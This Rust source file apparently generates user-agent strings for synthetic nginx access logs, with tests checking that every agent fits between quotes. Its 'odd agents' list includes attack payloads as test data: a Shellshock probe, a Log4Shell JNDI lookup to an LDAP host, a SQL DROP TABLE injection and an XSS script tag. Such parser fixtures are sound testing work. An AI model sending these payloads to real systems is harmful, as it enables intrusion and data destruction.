//! User agents: real-looking browsers, crawlers, scripts, monitors and scanners, and the odd ones.
//!
//! The odd agents carry what a parser must survive inside quotes: `\"`, `\x22` and `\\` escapes,
//! raw bytes that are not UTF-8, and the empty agent.

use crate::dice::Dice;

/// Who a client is; it picks the agent, the protocol, the referer and what gets requested.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum ClientKind {
    Browser,
    Crawler,
    Script,
    Monitor,
    Scanner,
}

const ANDROID_MODELS: &[&str] = &["SM-G991B", "SM-S918B", "Pixel 7", "Pixel 8 Pro", "K", "moto g(60)"];
const CRAWLERS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "DuckDuckBot-Https/1.1; (+https://duckduckgo.com/duckduckbot)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
];
const SCRIPTS: &[&str] = &[
    "curl/7.88.1",
    "curl/8.5.0",
    "curl/8.11.1",
    "python-requests/2.28.2",
    "python-requests/2.31.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "Wget/1.21.4",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "okhttp/4.12.0",
    "axios/1.7.9",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.43.0",
    "-",
];
const MONITORS: &[&str] = &[
    "UptimeRobot/2.0; http://www.uptimerobot.com/",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "Prometheus/2.51.0",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
];
const SCANNERS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
];
/// Agents with escapes and raw bytes, written exactly as they appear between the quotes.
pub(crate) const ODD: &[&[u8]] = &[
    b"Mozilla/5.0 (compatible; \\\"Scanner\\\"/1.0)",
    b"() { :; }; echo \\x22vulnerable\\x22",
    b"Mozilla/5.0 (Windows NT 10.0; C:\\\\Program Files\\\\Agent)",
    b"${jndi:ldap://198.51.100.23:1389/a}",
    b"Mozilla/5.0 (compatible; Caf\xe9Crawler/1.0)",
    b"\xff\xfe broken agent",
    b"Mozilla/5.0 (X11; Linux x86_64) \xe4\xb8\xad\xe6\x96\x87 \xc0\xaf",
    b"",
    b"'; DROP TABLE users; --",
    b"<script>alert(\\x22hi\\x22)</script>",
];

/// An agent for a client of `kind`; the same dice give the same agent.
pub(crate) fn agent(kind: ClientKind, dice: &mut Dice) -> Vec<u8> {
    match kind {
        ClientKind::Browser => browser(dice).into_bytes(),
        ClientKind::Crawler => dice.pick(CRAWLERS).as_bytes().to_vec(),
        ClientKind::Script => dice.pick(SCRIPTS).as_bytes().to_vec(),
        ClientKind::Monitor => dice.pick(MONITORS).as_bytes().to_vec(),
        ClientKind::Scanner if dice.chance(0.4) => dice.pick(ODD).to_vec(),
        ClientKind::Scanner => dice.pick(SCANNERS).as_bytes().to_vec(),
    }
}

fn browser(dice: &mut Dice) -> String {
    let chrome = dice.between(118, 134);
    let firefox = dice.between(115, 135);
    match dice.below(9) {
        0 | 1 => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36"
        ),
        2 => format!(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36"
        ),
        3 => format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.0.0"
        ),
        4 => {
            let os = dice.pick(&[
                "Windows NT 10.0; Win64; x64",
                "X11; Linux x86_64",
                "X11; Ubuntu; Linux x86_64",
                "Macintosh; Intel Mac OS X 14.7",
            ]);
            format!("Mozilla/5.0 ({os}; rv:{firefox}.0) Gecko/20100101 Firefox/{firefox}.0")
        }
        5 => format!(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{}.{} Safari/605.1.15",
            dice.between(16, 18),
            dice.between(0, 6)
        ),
        6 => {
            let major = dice.between(16, 18);
            let minor = dice.between(0, 6);
            format!(
                "Mozilla/5.0 (iPhone; CPU iPhone OS {major}_{minor} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{major}.{minor} Mobile/15E148 Safari/604.1"
            )
        }
        _ => format!(
            "Mozilla/5.0 (Linux; Android {}; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Mobile Safari/537.36",
            dice.between(10, 15),
            dice.pick(ANDROID_MODELS)
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::nginx::line::is_quotable;

    #[test]
    fn every_agent_fits_between_quotes() {
        let mut dice = Dice::new(5, 5);
        for kind in [
            ClientKind::Browser,
            ClientKind::Crawler,
            ClientKind::Script,
            ClientKind::Monitor,
            ClientKind::Scanner,
        ] {
            for _ in 0..500 {
                let a = agent(kind, &mut dice);
                assert!(is_quotable(&a), "{:?}", String::from_utf8_lossy(&a));
            }
        }
        assert!(ODD.iter().all(|a| is_quotable(a)));
    }

    #[test]
    fn odd_agents_cover_escapes_and_raw_bytes() {
        assert!(ODD.iter().any(|a| a.windows(2).any(|w| w == b"\\\"")));
        assert!(ODD.iter().any(|a| a.windows(4).any(|w| w == b"\\x22")));
        assert!(ODD.iter().any(|a| a.windows(2).any(|w| w == b"\\\\")));
        assert!(ODD.iter().any(|a| std::str::from_utf8(a).is_err()));
    }
}
